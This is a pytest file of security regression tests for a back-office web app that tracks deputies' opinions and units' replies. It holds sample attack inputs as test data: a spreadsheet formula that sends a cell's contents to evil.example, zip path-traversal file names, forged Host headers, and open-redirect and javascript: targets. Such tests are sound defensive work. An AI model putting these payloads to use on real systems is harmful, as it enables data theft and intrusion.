"""Holes found by a second attacker's walk through the running back-office: formulas and
control characters in the sheets and documents it writes, names that climb out of the
一案一册 zip, a forged Host or X-Forwarded-Host, the client address behind nginx, a
world-readable backup, one's own password without the current one, liaisons' phones and
another unit's answers shown where they should not be, searches too long for SQLite.

Each test failed before its fix (see the commit that added it), but the one marked as
held when probed."""

import csv
import io
import os
import re
import stat
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import requests
import sqlalchemy as sa
import xlsxwriter
from docx import Document
from gunicorn.app.wsgiapp import WSGIApplication

from backoffice import deputy_accounts, reassigning
from backoffice.extensions import db
from backoffice.models import (
    Attachment,
    CoHandling,
    CongressSession,
    ConsultationReply,
    Contact,
    Evaluation,
    LiaisonTerm,
    Opinion,
    RequestKind,
    Role,
    SecurityEvent,
    Unit,
    User,
)
from backoffice.public.review import approve, reviewable
from tests.backoffice.html_forms import form_data
from tests.backoffice.imports.tables import NEW_SESSION, opinion_row
from tests.backoffice.imports.test_import_pages import BASE, preview_token, upload
from tests.conftest import PASSWORD, csrf_token, quick_hashing, sign_in
from tests.importers.workbook_builders import OPINION_HEADER
from tests.probe.served import serve, stop

GUNICORN_CONFIG = str(Path(__file__).resolve().parents[3] / "deploy" / "gunicorn.conf.py")
SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
# Text a spreadsheet runs when it is a formula: it calls a server with what it reads.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _sheet_with_formula_text(path, rows) -> None:
    """Write rows to path (.xlsx or .csv), every cell as text, as a unit's sheet may hold."""
    if path.suffix == ".csv":
        with path.open("w", newline="", encoding="utf-8-sig") as out:
            csv.writer(out).writerows(rows)
        return
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("城市建设和管理")
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                sheet.write_string(r, c, str(value))


@SQLITE_ONLY
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_annotated_copy_keeps_text_as_text_and_takes_any_character(
        app, as_user, tmp_path, suffix) -> None:
    with app.app_context():
        rows = [OPINION_HEADER, opinion_row(1, 主办单位=FORMULA),
                # A vertical tab, as a cell pasted from another program may hold: the
                # annotated copy failed (openpyxl takes no control character).
                opinion_row(2, 主办单位="不存在的\x0b单位", 案由="关于\x0b路灯\x1f的建议"),
                opinion_row(3)]
    path = tmp_path / f"交办清单{suffix}"
    _sheet_with_formula_text(path, rows)
    client = as_user("operator")
    token = preview_token(upload(client, path, new_session_name=NEW_SESSION))
    annotated = client.get(f"{BASE}/preview/{token}/annotated/0")
    assert annotated.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(annotated.data))
    annotated.close()
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    # In the list of problems (单元格内容) and in the copied sheet alike.
    assert [cell.data_type for cell in cells if cell.value == FORMULA] == ["s", "s"]
    assert "不存在的单位" in [cell.value for cell in cells]


@SQLITE_ONLY
def test_an_attachments_name_never_climbs_out_of_the_case_files_zip(app, as_user) -> None:
    # A name made to climb out of the folder an office PC unpacks the 一案一册 zip into
    # (Windows tools split names at "\"); sent as a quoted string, each "\" doubled.
    client = as_user("pujiang")
    with app.app_context():
        opinion_id = db.session.scalar(sa.select(Opinion.id).join(Opinion.lead_unit).where(
            Unit.name == "浦江镇").order_by(Opinion.id).limit(1))
    for name in ("..\\\\..\\\\..\\\\启动\\\\答复.pdf", "子目录/答复函.pdf"):
        sent = client.post("/admin/opinion/attachments/", content_type="multipart/form-data",
                           data={"csrf_token": csrf_token(client, "/account/password"),
                                 "opinion_id": str(opinion_id), "kind": "答复函",
                                 "file": (io.BytesIO(b"%PDF-1.4 x"), name)})
        assert sent.status_code == 302
    with app.app_context():
        names = db.session.scalars(sa.select(Attachment.original_name).where(
            Attachment.opinion_id == opinion_id).order_by(Attachment.id.desc()).limit(2)).all()
    assert names == ["答复函.pdf", "答复.pdf"]
    with app.app_context():  # a name stored before uploads were cleaned, and a number
        db.session.execute(sa.update(Attachment).where(Attachment.original_name == "答复.pdf")
                           .values(original_name="..\\..\\启动/答复.pdf"))
        db.session.execute(sa.update(Opinion).where(Opinion.id == opinion_id)
                           .values(number="..\\..\\9"))
        db.session.commit()
    packed = client.get(f"/admin/opinion/case_file/zip?id={opinion_id}")
    with zipfile.ZipFile(io.BytesIO(packed.data)) as archive:
        members = archive.namelist()
    assert all("\\" not in m and ".." not in m.split("/") and m.count("/") <= 1
               for m in members), members


@SQLITE_ONLY
def test_a_forged_host_never_names_itself_in_what_the_public_site_lets_proxies_keep(
        app) -> None:
    # The public answers are `public, max-age`: one built for a forged Host header would be
    # served from a proxy's cache to everyone. TRUSTED_HOSTS names the site's own names.
    with app.app_context():
        approve(db.session, db.session.scalar(
            sa.select(Opinion.id).where(reviewable()).order_by(Opinion.id).limit(1)), "operator")
        db.session.commit()
    app.config["TRUSTED_HOSTS"] = ["backoffice.example.gov.cn"]
    anonymous = app.test_client()
    for url in ("/public/feed.json", "/public/", "/login", "/admin/"):
        for accept in ("text/html", "application/json"):
            forged = anonymous.get(url, headers={"Host": "evil.example", "Accept": accept,
                                                 "Referer": "http://evil.example/"})
            body = forged.get_data(as_text=True)
            if accept == "application/json":
                body = forged.json["message"]
            assert forged.status_code == 400, (url, accept)
            assert "网址" in body and "evil.example" not in body, (url, accept, body)
            assert "public" not in forged.headers.get("Cache-Control", ""), url
    feed = anonymous.get("/public/feed.json", headers={"Host": "backoffice.example.gov.cn"})
    assert feed.json["replies"][0]["url"].startswith("http://backoffice.example.gov.cn/public/")


@SQLITE_ONLY
def test_a_control_character_in_a_units_note_never_breaks_the_office_documents(
        app, as_user) -> None:
    # Word's XML holds no control character but tab and line breaks: python-docx refused
    # the whole 一案一册 for a unit's vertical tab (pasted from Excel) in a contact note.
    with app.app_context():
        opinion_id = db.session.scalar(sa.select(Opinion.id).join(Opinion.lead_unit).where(
            Unit.name == "浦江镇").order_by(Opinion.id).limit(1))
    unit = as_user("pujiang")
    url = f"/admin/opinion/edit/?id={opinion_id}"
    form = form_data(unit.get(url).get_data(as_text=True))
    form.update({"contacts-0-note": "电话\x0b联系\x1f过\x08", "contacts-0-stage": "办中",
                 "contacts-0-method": "电话", "contacts-0-contacted_on": "2018-03-01"})
    assert unit.post(url, data=form).status_code == 302
    with app.app_context():
        assert db.session.scalar(sa.select(Contact.note).where(
            Contact.opinion_id == opinion_id, Contact.note.like("电话%")))
    for kind in ("docx", "zip"):
        printed = unit.get(f"/admin/opinion/case_file/{kind}?id={opinion_id}")
        assert printed.status_code == 200, kind
    with zipfile.ZipFile(io.BytesIO(printed.data)) as archive:
        [docx] = [name for name in archive.namelist() if name.endswith(".docx")]
        document = Document(io.BytesIO(archive.read(docx)))
    text = "\n".join(cell.text for table in document.tables for row in table.rows
                     for cell in row.cells)
    assert "电话联系过" in text


@SQLITE_ONLY
def test_a_backup_is_readable_by_its_owner_alone(app, tmp_path) -> None:
    # It holds every password hash, second-factor secret and phone number.
    archive = tmp_path / "backup.tar.gz"
    before = os.umask(0o022)  # a login shell's usual mask: new files readable by all
    try:
        made = app.test_cli_runner().invoke(args=["backup", str(archive)])
    finally:
        os.umask(before)
    assert made.exit_code == 0, made.output
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600


def _sign_in_over_http(session: requests.Session, base: str, username: str,
                       password: str, address: str) -> requests.Response:
    """Sign in as nginx passes a client on: its address last in X-Forwarded-For."""
    headers = {"X-Forwarded-For": f"10.9.9.9, {address}"}  # the first one, the client wrote
    page = session.get(base + "/login", headers=headers, timeout=15).text
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)[1]
    return session.post(base + "/login", headers=headers, allow_redirects=False, timeout=15,
                        data={"username": username, "password": password, "csrf_token": token})


@SQLITE_ONLY
def test_behind_nginx_one_clients_wrong_passwords_lock_that_client_alone(
        app, database_url, tmp_path) -> None:
    # deploy/gunicorn.conf.py serves behind nginx on this host: every client came from
    # 127.0.0.1 unless the app believes nginx's X-Forwarded-For, so anyone's few wrong
    # passwords locked the whole office out, and the security log named no client.
    served = serve(app, database_url, tmp_path, ("-c", GUNICORN_CONFIG, "--workers", "1"),
                   workers=1, BACKOFFICE_LOGIN_ADDRESS_MAX_FAILURES="3")
    try:
        for attempt in range(3):
            refused = _sign_in_over_http(requests.Session(), served.base, f"guess{attempt}",
                                         "wrong-password-1", "203.0.113.7")
            assert refused.status_code == 200
        signed_in = _sign_in_over_http(requests.Session(), served.base, "operator", PASSWORD,
                                       "198.51.100.9")
        assert signed_in.status_code == 302, signed_in.text[:300]
        locked = _sign_in_over_http(requests.Session(), served.base, "leader", PASSWORD,
                                    "203.0.113.7")
        assert "尝试次数过多" in locked.text
        # nginx passes the Host it checked, and the client's own X-Forwarded-Host on: a
        # feed a proxy keeps must not be built for that name.
        with app.app_context():
            approve(db.session, db.session.scalar(sa.select(Opinion.id).where(reviewable())
                                                  .order_by(Opinion.id).limit(1)), "operator")
            db.session.commit()
        feed = requests.get(served.url("/public/feed.json"), timeout=15,
                            headers={"X-Forwarded-Host": "evil.example"})
        assert feed.json()["count"] == 1 and "evil.example" not in feed.text
    finally:
        stop(served)
    with app.app_context():
        addresses = dict(db.session.execute(sa.select(SecurityEvent.username,
                                                      SecurityEvent.client_address)).all())
    assert addresses["guess0"] == "203.0.113.7" and addresses["operator"] == "198.51.100.9"


@SQLITE_ONLY
def test_the_user_screen_sets_no_password_of_ones_own(app, as_user) -> None:
    # 修改密码 asks for the current password; the user screen set one's own without it,
    # so a browser left signed in could take the administrator's account.
    admin = as_user("sysadmin")
    with app.app_context():
        own = db.session.scalar(sa.select(User).where(User.username == "sysadmin"))
        own_id, before = own.id, own.password_hash
    url = f"/admin/user/edit/?id={own_id}"
    data = {**form_data(admin.get(url).get_data(as_text=True)),
            "new_password": "Taken-over-by-someone-9"}
    refused = admin.post(url, data=data)
    assert refused.status_code == 200
    assert "请在“修改密码”页修改本人的密码" in refused.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(User, own_id).password_hash == before


@SQLITE_ONLY
def test_the_annual_reports_workbook_writes_a_session_name_as_text(app, as_user) -> None:
    # A session's name comes from a form or an import's "new session" box; the annual
    # report's .xlsx wrote its title and the 同比 header through xlsxwriter's write(),
    # which runs text beginning with "=" as a formula.
    with app.app_context():
        db.session.execute(sa.update(CongressSession).values(
            name=FORMULA[:40] + CongressSession.name))
        db.session.commit()
    downloaded = as_user("leader").get("/admin/annual_report/download/xlsx?as_of=2017-12-15")
    assert downloaded.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(downloaded.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert len(cells) >= 3  # the title, and this and last year's names over 同比
    assert {cell.data_type for cell in cells} == {"s"}


@SQLITE_ONLY
def test_the_system_administrator_reads_no_liaisons_phone_in_the_units_form(
        app, as_user) -> None:
    # Liaisons are the office's reference data (their own screen: operator and leader);
    # the units' form carried them inline for the system administrator to read and change.
    with app.app_context():
        term = db.session.scalar(sa.select(LiaisonTerm).where(LiaisonTerm.phone.is_not(None))
                                 .order_by(LiaisonTerm.id).limit(1))
        unit_id, phone, person = term.unit_id, term.phone, term.person
    url = f"/admin/unit/edit/?id={unit_id}"
    admin = as_user("sysadmin")
    for page in (admin.get(url), admin.get("/admin/unit/new/")):
        assert page.status_code == 200
        text = page.get_data(as_text=True)
        assert "liaison_terms" not in text and phone not in text and person not in text
    saved = admin.post(url, data={**form_data(admin.get(url).get_data(as_text=True)),
                                  "liaison_terms-0-phone": "13900000000"})
    assert saved.status_code == 302
    with app.app_context():
        assert db.session.scalar(sa.select(LiaisonTerm.phone).where(
            LiaisonTerm.unit_id == unit_id, LiaisonTerm.person == person)) == phone
    operator = app.test_client()
    sign_in(operator, "operator")
    assert phone in operator.get(url).get_data(as_text=True)  # the office's to keep


@SQLITE_ONLY
def test_a_search_too_long_for_a_like_pattern_is_refused_by_name(app, as_user) -> None:
    # SQLite refuses a LIKE pattern over 50,000 bytes: a pasted search was answered
    # "系统暂时不可用" (503, as if the database were down) instead of naming what is wrong.
    client, auditor = as_user("pujiang"), app.test_client()
    sign_in(auditor, "auditor")
    for reader, url in ((client, "/admin/opinion/?search=" + "路" * 20000),
                        (client, "/admin/opinion/ajax/lookup/?name=lead_deputy&query="
                         + "路" * 20000),
                        (auditor, "/admin/security_log/?flt0_17=" + "路" * 20000)):  # 用户包含
        refused = reader.get(url, headers={"Accept": "application/json"})
        assert refused.status_code == 400, url[:60]
        assert "最多500字，现有20000字" in refused.json["message"]
    assert client.get("/admin/opinion/?search=" + "路" * 100).status_code == 200
    assert auditor.get("/admin/security_log/?flt0_17=" + "路" * 100).status_code == 200


@SQLITE_ONLY
def test_a_deputys_one_time_password_opens_nothing_but_修改密码_and_next_stays_home(
        app) -> None:
    # Held when probed; kept so that it stays so: the deputies' accounts are new.
    with app.app_context(), quick_hashing():
        # One account as create_missing makes each (the whole roster's cost seconds).
        opinion = db.session.scalar(sa.select(Opinion).where(Opinion.replied_on.is_not(None))
                                    .order_by(Opinion.id).limit(1))
        username, password = (deputy_accounts.username_for(opinion.lead_deputy),
                              deputy_accounts.one_time_password())
        user = User(username=username, role=Role.DEPUTY.value, deputy=opinion.lead_deputy)
        user.set_password(password)
        db.session.add(user)
        db.session.commit()
        opinion_id = opinion.id
        evaluations = db.session.scalar(sa.select(sa.func.count(Evaluation.id)))
    for target in ("//evil.example/", "/\\evil.example", "javascript:alert(1)",
                   "https:evil.example", "/\t/evil.example"):
        client = app.test_client()
        signed_in = client.post("/login", query_string={"next": target}, data={
            "username": username, "password": password,
            "csrf_token": csrf_token(client, "/login")})
        assert signed_in.location == "/account/password", target
        after = client.post("/account/password", query_string={"next": target})
        assert after.status_code == 400  # no form token: nothing else happens
    token = csrf_token(client, "/account/password")
    for method, url in (("GET", "/admin/"), ("GET", "/admin/mine/"),
                        ("GET", f"/admin/mine/opinion/?id={opinion_id}"),
                        ("GET", "/admin/mine/attachment/?id=1"), ("GET", "/admin/jobs/"),
                        ("POST", "/admin/mine/evaluate/"), ("POST", "/admin/mine/consultation/")):
        answer = client.open(url, method=method, data={
            "csrf_token": token, "opinion_id": opinion_id, "agrees": "同意", "grade": "好",
            "answer": "确认"})
        assert (answer.status_code, answer.location) == (302, "/account/password"), url
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(Evaluation.id))) == evaluations
        assert db.session.scalar(sa.select(sa.func.count(ConsultationReply.id))) == 0


@SQLITE_ONLY
def test_an_opinions_修改记录_shows_a_unit_only_the_rows_it_may_see(app) -> None:
    # The trail on the case file listed every change to the opinion's rows, old → new:
    # a co-handler read the office's answer to the lead unit's request (its own requests
    # alone are a unit's to see).
    with app.app_context():
        pujiang = db.session.scalar(sa.select(Unit.id).where(Unit.name == "浦江镇"))
        opinion = db.session.scalar(sa.select(Opinion).where(
            Opinion.lead_unit_id != pujiang,
            Opinion.co_handlings.any(CoHandling.unit_id == pujiang)).order_by(Opinion.id))
        with quick_hashing():
            lead = User(username="lead", role=Role.UNIT.value, unit_id=opinion.lead_unit_id)
            lead.set_password(PASSWORD, chosen_by_user=True)
        db.session.add(lead)
        db.session.commit()
        asked = reassigning.request(opinion, lead, RequestKind.RETURN.value, "不属于本单位职责")
        db.session.commit()
        reassigning.decline(asked, "请先与会办单位协商后再申请", "operator")
        db.session.commit()
        opinion_id = opinion.id
    for username, sees in (("pujiang", False), ("lead", True), ("operator", True)):
        client = app.test_client()
        sign_in(client, username)
        page = client.get(f"/admin/opinion/details/?id={opinion_id}").get_data(as_text=True)
        assert ("请先与会办单位协商后再申请" in page) == sees, username
        assert "修改记录" in page


def test_gunicorn_believes_x_forwarded_for_only_bound_to_loopback(monkeypatch) -> None:
    # Reached from elsewhere, a client writes X-Forwarded-For itself (past the locks).
    for bind, env in (("127.0.0.1:8000", {"BACKOFFICE_PROXY_COUNT": "1"}),
                      ("0.0.0.0:9000", {})):
        monkeypatch.setenv("GUNICORN_BIND", bind)
        monkeypatch.setattr(sys, "argv", ["gunicorn", "-c", GUNICORN_CONFIG])
        assert WSGIApplication().cfg.env == env, bind
    monkeypatch.setenv("BACKOFFICE_PROXY_COUNT", "2")  # set by hand: left alone
    assert WSGIApplication().cfg.env == {}
